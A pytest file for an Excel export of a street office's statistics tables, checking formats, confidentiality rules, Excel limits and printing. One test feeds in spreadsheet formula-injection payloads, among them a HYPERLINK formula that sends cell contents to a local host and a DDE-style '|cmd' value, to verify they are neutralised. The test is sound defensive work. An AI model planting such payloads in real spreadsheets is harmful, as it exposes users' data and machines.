"""The Excel pack, read back by openpyxl and by our own reader."""

from __future__ import annotations

import re
import zipfile
from collections.abc import Callable
from datetime import datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import duckdb
import openpyxl
import pytest
from openpyxl.utils import get_column_letter, range_boundaries

from ingest.finding.refusal import Refusal
from ingest.office.facts import Office
from ingest.workbook.cells.cell import Kind
from ingest.workbook.read import read_workbook
from tests.warehouse.exchange.conftest import Change
from warehouse.exchange.excel.chart import CHARTS
from warehouse.exchange.excel.workbook import LEFT_OUT, Bounds, write_workbook
from warehouse.exchange.published import open_published

STREET = "371002002"
REGISTERS = {"fct_evidence", "fct_register_cell", "fct_fai_project", "fct_fdi_tranche", "finding"}

Pack = Callable[..., Any]
Row = dict[str, Any]


@pytest.fixture
def file(tmp_path: Path) -> Path:
    return tmp_path / "pack.xlsx"


@pytest.fixture
def pack(published_file: Path, office: Office, file: Path) -> Pack:
    """Writes a pack and opens it with openpyxl."""

    def packed(
        source: Path | None = None, *tables: str, internal: bool = False, bounds: Bounds | None = None
    ) -> Any:
        with open_published(source or published_file, internal, tables) as published:
            write_workbook(published, office, file, bounds=bounds)
        return openpyxl.load_workbook(file)

    return packed


@pytest.fixture(scope="module")
def whole(published_file: Path, office: Office, tmp_path_factory: pytest.TempPathFactory) -> Any:
    """The pack of the sample night as it is handed out."""
    return _whole(published_file, office, tmp_path_factory.mktemp("pack"), internal=False)


@pytest.fixture(scope="module")
def inside(published_file: Path, office: Office, tmp_path_factory: pytest.TempPathFactory) -> Any:
    """The pack of the sample night for the office itself."""
    return _whole(published_file, office, tmp_path_factory.mktemp("inside"), internal=True)


def _whole(published_file: Path, office: Office, folder: Path, internal: bool) -> Any:
    with open_published(published_file, internal) as published:
        write_workbook(published, office, folder / "pack.xlsx")
    return openpyxl.load_workbook(folder / "pack.xlsx")


def rows_of(sheet: Any) -> list[Row]:
    """The rows of a table as cells by the name of their column."""
    head, *rows = sheet.iter_rows()
    names = [str(cell.value).split()[-1] for cell in head]
    return [dict(zip(names, row, strict=True)) for row in rows]


def row_where(sheet: Any, **values: str) -> Row:
    (found,) = [
        row for row in rows_of(sheet) if all(row[name].value == value for name, value in values.items())
    ]
    return found


def tables_of(book: Any) -> list[str]:
    """The sheets with tables of the snapshot: behind the cover, the contents, what is left out and the charts, before what
    the columns mean."""
    assert (book.sheetnames[:2], book.sheetnames[-1]) == (["封面", "目录"], "说明")
    return [name for name in book.sheetnames[2:-1] if name not in (CHARTS, LEFT_OUT)]


def cover_of(book: Any) -> list[tuple[str, str]]:
    return [(row[0].value, row[1].value) for row in book["封面"].iter_rows()]


# ------------------------------------------------------------------------------------------------- what is seen


def test_1032_is_a_number_shown_in_its_unit_beside_the_number_in_dollars(pack: Pack) -> None:
    book = pack(None, "mart_indicator")
    row = row_where(
        book["mart_indicator"],
        indicator_id="fdi_actual_utilized",
        ref_area=STREET,
        time_period="2023-12",
        is_default="是",
    )
    assert (row["display_value"].value, row["display_value"].number_format) == (1032, '#,##0"万美元"')
    assert (row["obs_value"].value, row["obs_value"].number_format) == (10320000, "#,##0")
    assert (row["ref_area"].value, row["ref_area"].data_type) == (STREET, "s")
    assert (row["time_period"].value, row["time_period"].data_type) == ("2023-12", "s")
    # 01:50 UTC is ten to ten in Beijing, and the header says whose clock it is.
    assert row["received_at"].value == datetime(2024, 1, 6, 9, 50)  # noqa: DTZ001 - Excel has no zone
    assert "收到时间(北京时间) received_at" in [cell.value for cell in book["mart_indicator"][1]]
    assert row["溯源"].value == "外资到账明细2023年12月.xlsx 外资到账明细!H9"
    assert row["溯源"].hyperlink is None


def test_an_invented_figure_says_so_wherever_it_stands(pack: Pack) -> None:
    book = pack(None, "mart_indicator", "mart_foreign_capital")
    row = row_where(
        book["mart_indicator"],
        indicator_id="fixed_asset_investment",
        ref_area=STREET,
        time_period="2023-12",
        breakdown="_T",
        measure="VALUE",
    )
    assert (row["display_value"].value, row["display_value"].number_format) == (12.4, '#,##0.0"(示例)%"')
    assert row["obs_value"].number_format == '#,##0.0"(示例)"'
    capital = row_where(book["mart_foreign_capital"], time_period="2023-12")
    # The total and the growth that the report states are real; the tranches, the base and what rests on it are not.
    assert capital["utilized_growth_reported"].value == 63.55
    for name in ("utilized", "utilized_growth_reported"):
        assert "示例" not in capital[name].number_format
    for name in (
        "tranches_recognised",
        "utilized_base",
        "utilized_growth_computed",
        "utilized_growth_computed_rounded",
    ):
        assert "示例" in capital[name].number_format


def test_where_there_is_no_value_stands_the_reason(pack: Pack) -> None:
    book = pack(None, "mart_trade_accommodation", "mart_growth_rate", "mart_indicator")
    january = row_where(
        book["mart_growth_rate"], indicator_id="fdi_actual_utilized", time_period="2023-01", ref_area=STREET
    )
    assert january["growth_computed"].value == "上年同期为 0"
    investment = [
        row
        for row in rows_of(book["mart_growth_rate"])
        if row["indicator_id"].value == "fixed_asset_investment"
    ]
    assert {row["growth_computed"].value for row in investment} == {"不收集绝对量"}
    words = {
        row["obs_value"].value
        for row in rows_of(book["mart_indicator"])
        if isinstance(row["obs_value"].value, str)
    }
    assert {"未填", "不适用", "免报"} <= words
    assert not [word for word in words if word.isascii()]


def test_why_nothing_was_computed_is_not_said_of_what_was_not_reported(pack: Pack) -> None:
    book = pack(None, "mart_growth_rate")
    january = row_where(
        book["mart_growth_rate"], indicator_id="fdi_actual_utilized", time_period="2023-01", ref_area=STREET
    )
    assert january["growth_reported"].value == "无"


def test_no_cell_is_blank_and_no_sheet_has_merged_cells_or_formulas(inside: Any) -> None:
    book = inside
    for sheet in book:
        assert not sheet.merged_cells.ranges, sheet.title
        for row in sheet.iter_rows():
            for cell in row:
                # Under a chart stands nothing, and a month without a growth has no point in it.
                assert cell.value not in (None, "") or sheet.title == CHARTS, (sheet.title, cell.coordinate)
                assert cell.data_type != "f", (sheet.title, cell.coordinate)


def test_every_table_is_a_table_of_excel_with_its_header_in_row_one(whole: Any) -> None:
    book = whole
    with_table = [sheet for sheet in book if sheet.title not in ("封面", CHARTS)]
    assert len(with_table) == len(book.sheetnames) - 2
    names = []
    for sheet in with_table:
        (table,) = sheet.tables.values()
        names.append(table.displayName)
        assert table.ref == f"A1:{sheet.cell(sheet.max_row, sheet.max_column).coordinate}", sheet.title
        assert table.autoFilter.ref == table.ref
        assert [column.name for column in table.tableColumns] == [cell.value for cell in sheet[1]]
        assert len({cell.value.lower() for cell in sheet[1]}) == sheet.max_column, sheet.title
        assert (sheet.freeze_panes, sheet.print_title_rows) == ("A2", "$1:$1")
        assert len(sheet.title) <= 31
        assert all(8 <= width.width <= 50 for width in sheet.column_dimensions.values())
    assert len(names) == len(set(names))


def test_a_row_of_several_figures_says_the_cell_of_each(pack: Pack) -> None:
    book = pack(None, "mart_fixed_asset_investment")
    row = row_where(
        book["mart_fixed_asset_investment"], time_period="2023-12", ref_area=STREET, breakdown="private"
    )
    assert row["溯源"].value == "固投增速反馈2023年1-12月.xlsx 反馈表!D6 填报同比、E6 填报位次"


def test_the_key_of_a_figure_is_text_and_no_number(pack: Pack) -> None:
    book = pack(None, "mart_foreign_capital")
    row = row_where(book["mart_foreign_capital"], time_period="2023-12")
    assert row["utilized_id"].data_type == "s"
    assert row["utilized_id"].value.isdecimal()


def test_the_contents_list_every_sheet_with_its_rows_and_lead_to_it(whole: Any) -> None:
    book = whole
    listed = {row["sheet"].value: row for row in rows_of(book["目录"])}
    assert [name for name in listed if name != "没有记录 no rows"] == tables_of(book)
    assert listed["mart_indicator"]["rows"].value == book["mart_indicator"].max_row - 1
    assert listed["mart_indicator"]["sheet"].hyperlink.location == "'mart_indicator'!A1"


def test_the_dictionary_describes_every_column_of_every_sheet(whole: Any) -> None:
    book = whole
    described = {(row["table"].value, row["header"].value) for row in rows_of(book["说明"])}
    for name in tables_of(book):
        for cell in book[name][1][:-1]:
            assert (name, cell.value) in described


def test_the_cover_and_the_properties_name_the_snapshot(whole: Any, published_file: Path) -> None:
    book = whole
    snapshot_id = published_file.parent.name
    cover = dict(cover_of(book))
    assert cover["标题 title"].startswith("鲸园街道")
    assert cover["快照 snapshot"] == snapshot_id
    assert cover["截至 as of"].startswith("全部已采用")
    assert "示例" in cover["示例 invented figures"]
    assert snapshot_id in book.properties.description
    assert {one.name: one.value for one in book.custom_doc_props.props}["snapshot_id"] == snapshot_id


def test_what_was_known_on_a_day_says_the_day(pack: Pack, changed: Change) -> None:
    book = pack(changed("update snapshot set as_of = '2024-01-05'"), "snapshot")
    assert dict(cover_of(book))["截至 as of"] == "2024-01-05"


# --------------------------------------------------------------------------------- what stays in the office


def test_tables_of_single_respondents_stay_in_the_office_and_it_is_said_which(whole: Any) -> None:
    book = whole
    assert not REGISTERS & set(book.sheetnames)
    left_out = {row["table"].value: row for row in rows_of(book[LEFT_OUT])}
    assert left_out.keys() >= REGISTERS
    assert int(left_out["finding"]["many"].value) > 0
    (said,) = [text for label, text in cover_of(book) if label.startswith("未收录") and "张表" in text]
    assert int(said.split()[0]) == sum("整张表" in row["what"].value for row in left_out.values())


def test_inside_the_office_they_are_in_the_pack_and_the_cover_says_so(inside: Any) -> None:
    book = inside
    assert set(book.sheetnames) >= REGISTERS
    assert LEFT_OUT not in book.sheetnames
    (said,) = [text for label, text in cover_of(book) if label.startswith("未收录")]
    assert said.startswith("无：本包含逐户资料")


def test_a_table_of_registers_stays_even_if_nobody_marked_it(changed: Change) -> None:
    source = changed(
        "create table fct_stall as select 'X楼' as building, 1 as row_no",
        "insert into dictionary values ('fct_stall', 'building', 1, 'varchar', '楼宇', 'building', 'main', '', '', ''),"
        " ('fct_stall', 'row_no', 2, 'integer', '行号', 'row', 'main', '', '', '')",
    )
    with open_published(source, internal=False) as published:
        assert "fct_stall" in [table.name for table in published.left_out]


def test_confidential_rows_of_any_table_stay_and_are_counted(pack: Pack, changed: Change) -> None:
    source = changed("update mart_indicator set conf_status = 'C' where time_period = '2023-12'")
    with duckdb.connect(str(source), read_only=True) as connection:
        rows, guarded = connection.execute(
            "select count(*), count(*) filter (where conf_status = 'C') from mart_indicator"
        ).fetchone()  # type: ignore[misc]
    book = pack(source, "mart_indicator")
    assert book["mart_indicator"].max_row - 1 == rows - guarded
    assert "2023-12" not in {row["time_period"].value for row in rows_of(book["mart_indicator"])}
    assert f"{guarded} 行：保密状态 C" in " ".join(text for _, text in cover_of(book))
    assert row_where(book[LEFT_OUT], table="mart_indicator")["many"].value == str(guarded)
    assert pack(source, "mart_indicator", internal=True)["mart_indicator"].max_row - 1 == rows


# ---------------------------------------------------------------------------------------- somebody else's words


def test_what_a_department_wrote_is_never_run(pack: Pack, changed: Change, file: Path) -> None:
    source = changed(
        """update fct_fdi_tranche set enterprise = '=HYPERLINK("http://127.0.0.1/?"&A1,"x")' where row_no = 5""",
        "update fct_register_cell set raw_text = '@SUM(1+1)|cmd' where row_no = 5",
        "update fct_fai_project set project_name = chr(9) || '=1+1' where row_no = 5",
        "update mart_indicator set source_file = '-2+3.xlsx' where time_period = '2023-12'",
    )
    tables = ("fct_fdi_tranche", "fct_register_cell", "fct_fai_project", "mart_indicator")
    book = pack(source, *tables, internal=True)
    assert {
        row["enterprise"].value
        for row in rows_of(book["fct_fdi_tranche"])
        if "HYPERLINK" in str(row["enterprise"].value)
    } == {"""'=HYPERLINK("http://127.0.0.1/?"&A1,"x")"""}
    assert "'@SUM(1+1)|cmd" in {row["raw_text"].value for row in rows_of(book["fct_register_cell"])}
    december = [row for row in rows_of(book["mart_indicator"]) if row["time_period"].value == "2023-12"]
    assert all(row["source_file"].value == "'-2+3.xlsx" for row in december)
    assert all(row["溯源"].value.startswith("'-2+3.xlsx ") for row in december)
    with zipfile.ZipFile(file) as parts:
        sheets = [name for name in parts.namelist() if name.startswith("xl/worksheets/sheet")]
        assert not any(re.search(rb"<f[ >]", parts.read(name)) for name in sheets)
        assert not any(b"external" in parts.read(name).lower() for name in parts.namelist() if "rels" in name)


def test_signs_that_xml_forbids_do_not_break_the_file(pack: Pack, changed: Change, file: Path) -> None:
    source = changed(
        "update mart_indicator set source_sheet = '表' || chr(1) || chr(31) || '_x0041_' || chr(65535) || '<&>'"
    )
    pack(source, "mart_indicator")
    sheet = next(sheet for sheet in read_workbook(file).sheets if sheet.name == "mart_indicator")
    texts = {
        cell.value for cell in sheet.cells() if isinstance(cell.value, str) and cell.value.startswith("表")
    }
    assert any("_x0041_" in text and text.endswith("<&>") and "\x01" in text for text in texts)


def test_a_text_longer_than_a_cell_is_refused_and_not_cut(pack: Pack, changed: Change) -> None:
    source = changed(
        "update mart_indicator set source_sheet = repeat('长', 32768) where time_period = '2023-12'"
    )
    with pytest.raises(Refusal) as refused:
        pack(source, "mart_indicator")
    assert refused.value.code == "EXCEL_TEXT"
    assert "mart_indicator" in str(refused.value.where)
    assert "32768" in refused.value.found


# ---------------------------------------------------------------------------------------------- Excel's limits


def test_a_table_with_more_rows_than_a_sheet_goes_on_on_the_next(pack: Pack) -> None:
    whole = [row["series_id"].value for row in rows_of(pack(None, "mart_indicator")["mart_indicator"])]
    book = pack(None, "mart_indicator", bounds=Bounds(rows=50))
    parts = [name for name in book.sheetnames if name.startswith("mart_indicator")]
    assert parts == [f"mart_indicator_{number}" for number in range(1, -(-len(whole) // 50) + 1)]
    assert [row["series_id"].value for name in parts for row in rows_of(book[name])] == whole
    assert [row["sheet"].value for row in rows_of(book["目录"])] == parts


def test_more_cells_than_a_file_should_hold_are_refused(pack: Pack, file: Path) -> None:
    with pytest.raises(Refusal) as refused:
        pack(bounds=Bounds(cells=1000))
    assert (refused.value.code, refused.value.expected) == ("EXCEL_LIMIT", "≤ 1000")
    assert not file.exists()


def test_a_table_without_rows_has_no_sheet_and_the_contents_say_so(pack: Pack, changed: Change) -> None:
    book = pack(changed("delete from mart_foreign_capital"), "mart_foreign_capital", "mart_services")
    assert tables_of(book) == ["mart_services"]
    listed = [[cell.value for cell in row] for row in book["目录"].iter_rows(min_row=2)]
    assert [row[0] for row in listed] == ["mart_services", "没有记录 no rows"]
    assert (listed[1][1], listed[1][3]) == (book["目录"].cell(3, 2).value, 0)
    # What its columns would mean is told all the same.
    assert "mart_foreign_capital" in {row[0].value for row in book["说明"].iter_rows(min_row=2)}


# ----------------------------------------------------------------------------------------- what is read first


@pytest.mark.parametrize(
    ("table", "first", "last"),
    [
        (
            "mart_indicator",
            [
                "indicator_zh",
                "area_zh",
                "place_zh",
                "time_period",
                "display_value",
                "obs_value",
                "display_unit_zh",
            ],
            ["reconciliation", "submission_id", "溯源"],
        ),
        (
            "mart_growth_rate",
            ["indicator_zh", "area_zh", "time_period", "level_value", "growth_reported", "growth_computed"],
            ["two_years_id", "growth_before_id", "溯源"],
        ),
        (
            "mart_foreign_capital",
            [
                "area_zh",
                "time_period",
                "display_value",
                "utilized",
                "display_unit_zh",
                "utilized_growth_reported",
            ],
            ["utilized_base_own_id", "conf_status", "溯源"],
        ),
        # The fields of a register stand as on the department's form.
        (
            "fct_visit",
            ["time_period", "visit_date", "visit_date_reason", "destination", "host", "leader"],
            ["row_key", "conf_status", "溯源"],
        ),
    ],
)
def test_names_value_unit_and_growth_come_first_and_codes_last(
    inside: Any, table: str, first: list[str], last: list[str]
) -> None:
    names = [str(cell.value).split()[-1] for cell in inside[table][1]]
    assert names[: len(first)] == first
    assert names[-len(last) :] == last


def test_relations_for_people_are_read_by_their_labels_names_first(inside: Any) -> None:
    heads = [str(cell.value) for cell in inside["headline"][1]]
    assert heads[:9] == [
        "指标 line_zh",
        "地区 area_zh",
        "月份 month",
        "时期 period_zh",
        "本期数 value",
        "单位 unit_zh",
        "同比_% growth",
        "同比文字 growth_zh",
        "增速变动_百分点 growth_change_pp",
    ]
    assert "是否最新一期 is_latest" in heads


def test_no_two_columns_of_a_sheet_have_the_same_words(inside: Any) -> None:
    for name in tables_of(inside):
        words = [str(cell.value).rpartition(" ")[0] for cell in inside[name][1][:-1]]
        assert len(set(words)) == len(words), name
    capital = {str(cell.value).split()[-1]: cell.value for cell in inside["mart_foreign_capital"][1]}
    assert capital["utilized"] == "实际到账外资，年初累计 utilized"
    assert capital["utilized_reason"] == "没有实际到账外资，年初累计的原因 utilized_reason"
    assert (
        capital["utilized_break_reason_zh"] == "实际到账外资，年初累计的口径变动说明 utilized_break_reason_zh"
    )


# --------------------------------------------------------------------------------------------------- on paper


def test_of_a_wide_table_the_first_columns_are_printed_and_the_page_says_so(whole: Any) -> None:
    sheet = whole["mart_indicator"]
    assert sheet.max_column > 50
    (area,) = sheet.print_area.replace("$", "").rpartition("!")[2].split(",")
    names = [str(cell.value).split()[-1] for cell in sheet[area.split(":")[0] : area.split(":")[1]][0]]
    assert names[:8] == [
        "indicator_zh",
        "area_zh",
        "place_zh",
        "time_period",
        "display_value",
        "obs_value",
        "display_unit_zh",
        "obs_reason",
    ]
    assert area.endswith(str(sheet.max_row))
    assert sheet.oddHeader.right.text == f"打印前 {len(names)} 列，共 {sheet.max_column} 列 first columns"
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 9)


def test_no_page_is_made_so_small_that_nobody_can_read_it(whole: Any) -> None:
    for name in [name for name in whole.sheetnames if name not in ("封面", CHARTS)]:
        sheet = whole[name]
        last = sheet.max_column
        if sheet.print_area:
            last = range_boundaries(sheet.print_area.rpartition("!")[2].replace("$", ""))[2]
        widths = [sheet.column_dimensions[get_column_letter(number)].width for number in range(1, last + 1)]
        # 220 characters stand at three fifths of their size; the library adds 0.71 to a width.
        assert sum(widths) <= 220 + last, name


def test_a_text_that_looks_like_xml_of_the_library_is_a_text(pack: Pack, changed: Change) -> None:
    book = pack(changed("update snapshot set build_id = '<r><t>x</t></r>'"), "snapshot")
    (row,) = rows_of(book["snapshot"])
    assert row["build_id"].value == "<r><t>x</t></r> "


# ------------------------------------------------------------------------------------------------ read again


def test_our_own_reader_reads_every_value_as_it_is_published(
    pack: Pack, file: Path, published_file: Path
) -> None:
    pack(None, "mart_indicator")
    with duckdb.connect(str(published_file), read_only=True) as connection:
        kept = [value for (value,) in connection.execute("select obs_value from mart_indicator").fetchall()]
    sheet = next(sheet for sheet in read_workbook(file).sheets if sheet.name == "mart_indicator")
    by_place = {(cell.row, cell.column): cell for cell in sheet.cells()}
    head = {cell.value: cell.column for cell in by_place.values() if cell.row == min(by_place)[0]}
    column = head["数值 obs_value"]
    first = min(by_place)[0] + 1
    read = [by_place[first + number, column] for number in range(len(kept))]
    for cell, value in zip(read, kept, strict=True):
        assert cell.kind is (Kind.TEXT if value is None else Kind.NUMBER)
        assert value is None or cell.value == Decimal(value)


def test_the_same_snapshot_gives_the_same_bytes(pack: Pack, file: Path) -> None:
    pack(None, "mart_indicator", "submission", "snapshot")
    first = file.read_bytes()
    pack(None, "mart_indicator", "submission", "snapshot")
    assert file.read_bytes() == first


def test_a_snapshot_of_an_earlier_version_has_the_tables_that_it_has(pack: Pack, changed: Change) -> None:
    source = changed(
        "drop table mart_trade_accommodation",
        "delete from dictionary where model = 'mart_trade_accommodation'",
        "alter table mart_growth_rate drop column gap_pp",
        "delete from dictionary where model = 'mart_growth_rate' and column_name = 'gap_pp'",
    )
    book = pack(source, "mart_growth_rate")
    with open_published(source, internal=False) as published:
        assert published.table("mart_trade_accommodation") is None
    assert "mart_trade_accommodation" not in book.sheetnames
    assert "gap_pp" not in rows_of(book["mart_growth_rate"])[0]
